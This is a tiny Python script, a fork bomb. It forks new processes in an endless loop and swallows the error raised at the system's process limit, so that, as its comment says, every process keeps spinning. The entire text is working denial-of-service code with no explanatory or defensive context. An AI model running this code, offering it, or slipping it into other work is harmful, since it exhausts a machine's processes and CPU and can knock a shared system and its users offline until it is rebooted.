# Fork until the process limit, then keep every process spinning.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
